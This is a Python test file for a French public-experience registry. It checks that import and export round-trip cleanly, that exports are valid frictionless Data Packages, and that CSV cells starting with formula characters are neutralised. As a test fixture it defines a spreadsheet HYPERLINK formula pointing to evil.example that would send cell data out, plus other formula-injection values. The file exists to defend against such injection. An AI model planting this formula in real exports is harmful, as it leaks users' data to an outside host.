"""import → export → import gives the same records and the same CSV bytes; the export is a valid
Data Package for frictionless; formulas are neutralised in the CSV and come back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

from frictionless import Package, validate

from registry.config import load_settings
from registry.export import export_registry
from registry.paths import SCHEMAS_DIR
from registry.queries import get_experience, published_records
from registry.service import Provenance, publish_path
from registry.store import Registry
from tests.conftest import Clock
from tests.helpers import children, example, write_package

CLI = Provenance("cli")
PARIS = "217500016-2023-001"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def fresh(tmp: Path, name: str, clock: Clock) -> Registry:
    reg = Registry(load_settings(home=str(tmp / name)), clock=clock)
    reg.migrate()
    return reg


def test_import_export_import_gives_same_records_and_bytes(registry: Registry, tmp_path: Path, clock: Clock) -> None:
    hostile = {**example(PARIS), "impacts_negatifs": FORMULA, "recommandations": "+33 1 23 45 67 89",
               "ce_qui_a_fonctionne": "'déjà entre apostrophes' et <b>gras</b>", "modalites_participation": "@tous"}
    source = write_package(tmp_path / "src", {"experiences": [hostile], "indicateurs": children("indicateurs", PARIS)})
    assert publish_path(registry, SCHEMAS_DIR / "datapackage.json", CLI).accepted
    assert publish_path(registry, source, CLI).accepted
    first = export_registry(registry, tmp_path / "export1")

    report = validate(str(tmp_path / "export1" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert Package(str(tmp_path / "export1" / "datapackage.json")).get_resource("experiences").read_rows()

    second_registry = fresh(tmp_path, "second", clock)
    result = publish_path(second_registry, tmp_path / "export1", CLI)
    assert result.accepted, result.report.to_text()
    second = export_registry(second_registry, tmp_path / "export2")
    assert first.rows == second.rows and first.rows["experiences"] == 4
    for name in first.rows:
        one, two = (tmp_path / d / f"{name}.csv" for d in ("export1", "export2"))
        assert one.read_bytes() == two.read_bytes()
    assert published_records(registry) == published_records(second_registry)
    assert get_experience(second_registry, PARIS).main["impacts_negatifs"] == FORMULA


def test_formulas_are_neutralised_in_csv_exports(sqlite_registry: Registry, tmp_path: Path) -> None:
    row = {**example(PARIS), "impacts_negatifs": FORMULA, "impacts_positifs": "-2+3", "financements": "@SUM(A1)"}
    assert publish_path(sqlite_registry, write_package(tmp_path / "src", {"experiences": [row]}), CLI).accepted
    export_registry(sqlite_registry, tmp_path / "out")
    with (tmp_path / "out" / "experiences.csv").open(encoding="utf-8", newline="") as fh:
        [exported] = list(csv.DictReader(fh))
    assert exported["impacts_negatifs"] == "'" + FORMULA
    assert exported["impacts_positifs"] == "'-2+3"
    assert exported["financements"] == "'@SUM(A1)"
    assert exported["cout_prevu"] == row["cout_prevu"]  # numbers are never touched
    cells = [v for v in exported.values() if v]
    assert not any(v[0] in "=+-@" for v in cells if not v.lstrip("-").replace(".", "").isdigit())


def test_export_of_empty_registry_is_valid(sqlite_registry: Registry, tmp_path: Path) -> None:
    result = export_registry(sqlite_registry, tmp_path / "empty")
    assert set(result.rows.values()) == {0}
    assert validate(str(tmp_path / "empty" / "datapackage.json")).valid


def test_withdrawn_experiences_are_not_exported(sqlite_registry: Registry, tmp_path: Path) -> None:
    from registry.service import withdraw

    assert publish_path(sqlite_registry, SCHEMAS_DIR / "datapackage.json", CLI).accepted
    withdraw(sqlite_registry, PARIS, "Fiche publiée par erreur, doublon.", CLI)
    result = export_registry(sqlite_registry, tmp_path / "out")
    assert result.rows["experiences"] == 3
    assert PARIS not in (tmp_path / "out" / "experiences.csv").read_text(encoding="utf-8")
